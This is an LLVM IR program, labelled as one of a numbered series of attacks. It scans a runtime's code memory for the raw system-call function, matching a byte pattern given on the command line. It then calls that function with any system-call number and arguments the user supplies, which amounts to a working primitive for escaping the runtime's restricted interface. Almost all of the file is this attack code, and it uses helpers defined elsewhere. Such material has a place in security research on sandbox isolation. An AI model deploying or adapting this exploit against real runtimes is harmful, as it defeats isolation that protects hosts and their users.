; Any system call, with any arguments, through the runtime's raw system-call function
; found as attack 1 finds it. Prints the result (to standard error, unsigned) and exits
; with its low byte (an error -E: 256 - E).
; argv: [1] the function's first bytes in hex, [2] the call's number, [3]... up to six
; arguments, each a number (decimal, or hexadecimal after 0x), "@TEXT" (TEXT's address) or
; "buf" (a 512-byte buffer's).
@buf = internal global [512 x i8] zeroinitializer, align 8
@buf_word = internal constant [4 x i8] c"buf\00"

define internal i32 @argument(i32 %k) {
entry:
  %si = ptrtoint [4 x i8]* @startinfo to i32
  %info = call i32 @load32(i32 %si)
  %argc.p = add i32 %info, 8
  %argc = call i32 @load32(i32 %argc.p)
  %have = icmp slt i32 %k, %argc
  br i1 %have, label %given, label %zero
zero:
  ret i32 0
given:
  %s = call i32 @arg(i32 %k)
  %c = call i32 @load8(i32 %s)
  %at = icmp eq i32 %c, 64
  br i1 %at, label %text, label %other
text:
  %t = add i32 %s, 1
  ret i32 %t
other:
  %bw = ptrtoint [4 x i8]* @buf_word to i32
  %isbuf = call i32 @streq(i32 %s, i32 %bw)
  %yes = icmp ne i32 %isbuf, 0
  br i1 %yes, label %buffer, label %number
buffer:
  %b = ptrtoint [512 x i8]* @buf to i32
  ret i32 %b
number:
  %v = call i32 @parse(i32 %s)
  ret i32 %v
}

define void @_start(i32 %info) {
entry:
  call void @init(i32 %info)
  %pat = call i32 @arg(i32 1)
  %q = call i32 @query_addr()
  %a = call i32 @find_code(i32 %q, i32 %pat)
  %none = icmp eq i32 %a, 0
  br i1 %none, label %missing, label %found
missing:
  call void @exit(i32 2)
  unreachable
found:
  %sc = inttoptr i32 %a to i32 (i32, i32, i32, i32, i32, i32, i32)*
  %nrs = call i32 @arg(i32 2)
  %nr = call i32 @parse(i32 %nrs)
  %a0 = call i32 @argument(i32 3)
  %a1 = call i32 @argument(i32 4)
  %a2 = call i32 @argument(i32 5)
  %a3 = call i32 @argument(i32 6)
  %a4 = call i32 @argument(i32 7)
  %a5 = call i32 @argument(i32 8)
  %r = call i32 %sc(i32 %nr, i32 %a0, i32 %a1, i32 %a2, i32 %a3, i32 %a4, i32 %a5)
  call void @print_num(i32 %r)
  %low = and i32 %r, 255
  call void @exit(i32 %low)
  unreachable
}
